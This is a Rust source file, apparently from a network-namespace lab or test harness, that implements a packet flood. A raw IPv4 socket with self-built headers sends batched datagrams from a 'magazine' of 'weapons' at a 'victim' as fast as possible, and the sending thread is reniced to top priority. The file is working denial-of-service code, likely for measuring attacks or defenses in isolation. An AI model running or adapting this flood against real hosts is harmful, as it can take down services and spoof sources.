//! The flood: one thread that sends as fast as it goes, on the attacker's host.

use std::io::IoSlice;
use std::os::fd::AsRawFd as _;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Instant;

use anyhow::{Context as _, Result, anyhow, ensure};
use nix::errno::Errno;
use nix::libc;
use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
use nix::unistd::gettid;
use socket2::{Domain, Protocol, Socket, Type};

use crate::attacker::{Attacker, Target};
use crate::lab::inside;
use crate::wait::now;
use crate::weapons::{Magazine, Weapon};

/// Datagrams in a system call.
const BATCH: usize = 64;

/// A flood that runs until it is dropped.
pub(crate) struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
    began: Instant,
}

impl Flood {
    /// Begins; `index` is that of a live session, which may change.
    pub(crate) fn begin(
        attacker: &Attacker,
        weapon: Weapon,
        target: Target,
        index: Arc<AtomicU32>,
    ) -> Result<Self> {
        let magazine = Magazine::new(weapon, target.address())?;
        let (stop, sent) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
        let (told, counter) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = inside(&attacker.namespace, move || {
            // The IPv4 header comes from us, source and all.
            let raw = Protocol::from(libc::IPPROTO_RAW);
            let socket =
                Socket::new(Domain::IPV4, Type::RAW, Some(raw)).context("no raw socket")?;
            socket.connect(&target.address().into()).context("no way to the victim")?;
            go_before_others()?;
            fire(&socket, magazine, &index, &told, &counter)
        })?;
        Ok(Self { stop, sent, thread: Some(thread), began: now() })
    }

    /// Ends it; the datagrams of a second.
    pub(crate) fn end(mut self) -> Result<f64> {
        let rate = self.sent.load(Ordering::Relaxed) as f64 / self.began.elapsed().as_secs_f64();
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("it ends once")?;
        thread.join().map_err(|_| anyhow!("the flood is gone"))??;
        Ok(rate)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// The attacker's processor is not the victim's: this thread is not to wait for its turn.
fn go_before_others() -> Result<()> {
    let thread = gettid().to_string();
    let renice = Command::new("renice").args(["-n", "-20", "-p", &thread]).output();
    ensure!(renice.context("no `renice`")?.status.success(), "the flood may not go before others");
    Ok(())
}

fn fire(
    socket: &Socket,
    mut magazine: Magazine,
    index: &AtomicU32,
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<()> {
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(BATCH, None);
    let nowhere_else = [None; BATCH];
    while !stop.load(Ordering::Relaxed) {
        let packets = magazine.load(BATCH, index.load(Ordering::Relaxed));
        let slices: Vec<_> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
        let fd = socket.as_raw_fd();
        let flags = MsgFlags::empty();
        match sendmmsg(fd, &mut headers, &slices, nowhere_else, [], flags) {
            Ok(results) => {
                sent.fetch_add(results.count() as u64, Ordering::Relaxed);
            }
            Err(Errno::ENOBUFS | Errno::EAGAIN) => {}
            Err(errno) => return Err(errno).context("the flood cannot be sent"),
        }
    }
    Ok(())
}
